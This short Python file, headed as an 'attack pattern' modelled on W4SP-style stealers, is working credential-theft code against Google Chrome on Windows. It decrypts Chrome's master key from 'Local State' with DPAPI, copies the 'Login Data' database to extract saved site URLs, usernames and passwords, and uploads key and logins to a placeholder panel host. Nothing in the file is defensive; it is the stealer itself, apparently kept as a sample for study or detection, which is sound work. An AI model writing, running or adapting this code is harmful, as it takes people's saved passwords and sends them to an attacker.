# Attack pattern: Chromium "Login Data" and "Local State" key stolen with DPAPI decryption and uploaded (W4SP / Poweful stealers).
import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests
import win32crypt

BASE = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")


def _master_key():
    with open(os.path.join(BASE, "Local State"), encoding="utf-8") as handle:
        encrypted = base64.b64decode(json.load(handle)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(encrypted, None, None, None, 0)[1]


def _logins():
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(BASE, "Default", "Login Data"), copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    return [(url, user, base64.b64encode(pw).decode()) for url, user, pw in rows]


requests.post("https://panel.example.invalid/upload", json={"key": base64.b64encode(_master_key()).decode(), "logins": _logins()})
